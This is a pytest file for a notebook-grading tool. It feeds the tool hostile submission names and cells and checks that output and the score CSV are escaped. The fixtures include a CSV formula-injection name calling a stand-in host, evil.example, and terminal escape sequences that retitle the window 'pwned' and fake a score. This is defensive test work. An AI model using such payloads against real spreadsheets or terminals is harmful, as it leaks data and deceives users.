"""What a class of notebooks puts in front of the instructor: names and cells that try to drive the
terminal or break the score sheet, submissions that are not notebooks (issue 23, items 7, 9 and 11).

- a carriage return in a notebook's name used to end the CSV row there (Python's writer quotes a CR only
  when the line ending holds one), and a ``=HYPERLINK(…)`` after it began a row of its own, past the
  formula guard; a name with bytes that are not UTF-8 aborted the whole class (UnicodeEncodeError);
- escape sequences in a cell's first line (quoted by the hints) reached the terminal raw: clear the
  screen, set the window's title, print a fake "score: 14/14";
- a folder named ``*.ipynb`` and a hidden ``.x.ipynb`` got no row at all.

The oracles: the bytes printed hold no control character but new lines; the CSV, split on new lines
(as a naive reader does) and read by Python's csv module, has exactly one row per submission, and no
cell of drlab's starts a formula.
"""

from __future__ import annotations

import csv
import io
import os
import unicodedata
from pathlib import Path

import nbformat
import pytest

from drlab.check.report import FORMULA_STARTS
from drlab.cli import main

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hscore: 14/14 \x9b31m\u202egnp.\u200b"


def write_notebook(path: Path | bytes, *sources: str) -> None:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in sources])
    with open(path, "w", encoding="utf-8") as handle:
        nbformat.write(nb, handle)


def control_characters(text: str) -> set[str]:
    return {char for char in text if unicodedata.category(char) in ("Cc", "Cf", "Cs") and char != "\n"}


def test_hostile_names_and_cells_reach_neither_the_terminal_nor_the_sheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    write_notebook(submissions / 'a\r=HYPERLINK("https:evil.example?"&A1,"ok").ipynb', "x = 1")
    write_notebook(os.fsencode(submissions) + b"/caf\xe9 \xff.ipynb", "x = 1")  # not UTF-8 (Latin-1)
    write_notebook(submissions / "escapes.ipynb", f"y = 1  # {ESCAPES}\nraise ValueError({ESCAPES!r})")
    (submissions / "folder.ipynb").mkdir()
    write_notebook(submissions / ".hidden.ipynb", "z = 1")
    (submissions / "._escapes.ipynb").write_bytes(b"\x00\x05\x16\x07Mac OS X        \x00\x02")  # AppleDouble
    scores = tmp_path / "scores.csv"

    code = main(
        ["check", "tp1", str(submissions), "--csv", str(scores), "--budget", "tiny", "--timeout", "60", "--jobs", "2"]
    )  # fmt: skip

    captured = capsys.readouterr()
    assert code == 1
    assert control_characters(captured.out + captured.err) == set()
    assert "\\x1b]0;pwned\\x07" in captured.out  # shown, not obeyed
    assert "caf\\xe9 \\xff.ipynb" in captured.out
    raw = scores.read_bytes().decode("utf-8")
    assert control_characters(raw) == set()
    lines = raw.splitlines()
    assert len(lines) == 1 + 6  # the header and one row per submission, each on its own line
    for line in lines[1:]:
        assert not line.startswith(FORMULA_STARTS)
        assert not any(cell.startswith(FORMULA_STARTS) for cell in line.split(","))
    by_name = {Path(row["notebook"]).name: row for row in csv.DictReader(io.StringIO(raw, newline=""))}
    assert set(by_name) == {
        'a\\r=HYPERLINK("https:evil.example?"&A1,"ok").ipynb', "caf\\xe9 \\xff.ipynb", "escapes.ipynb",
        "folder.ipynb", ".hidden.ipynb", "._escapes.ipynb",
    }  # fmt: skip
    assert by_name["folder.ipynb"]["status"] == "unreadable"
    assert "a folder, not a notebook" in by_name["folder.ipynb"]["first_problem"]
    assert by_name[".hidden.ipynb"]["status"] == "ok"  # graded, as any notebook
    assert "macOS" in by_name["._escapes.ipynb"]["first_problem"]
    assert by_name["caf\\xe9 \\xff.ipynb"]["status"] == "ok"
    assert "\\x1b[2J" in by_name["escapes.ipynb"]["first_problem"]


def test_two_names_never_share_a_row_once_escaped(tmp_path: Path) -> None:
    """A row of the score sheet is found by its escaped name: the escape must tell every name apart (a
    CR and the two characters backslash-r; a formula and the same text quoted), or one notebook's row
    would overwrite a classmate's."""
    from drlab.check.report import NotebookReport, write_scores_csv

    names = ["x\r.ipynb", "x\\r.ipynb", "=a.ipynb", "'=a.ipynb", "caf\udce9.ipynb", "caf\\xe9.ipynb"]
    sheet = tmp_path / "scores.csv"
    reports = [NotebookReport(notebook=name, status="ok", max_score=1) for name in names]
    write_scores_csv(reports, sheet, ["runs"])
    write_scores_csv(reports[::-1], sheet, ["runs"])  # graded again, in another order: the same rows
    with open(sheet, newline="", encoding="utf-8") as handle:
        keys = [row["notebook"] for row in csv.DictReader(handle)]
    assert len(keys) == len(set(keys)) == len(names)
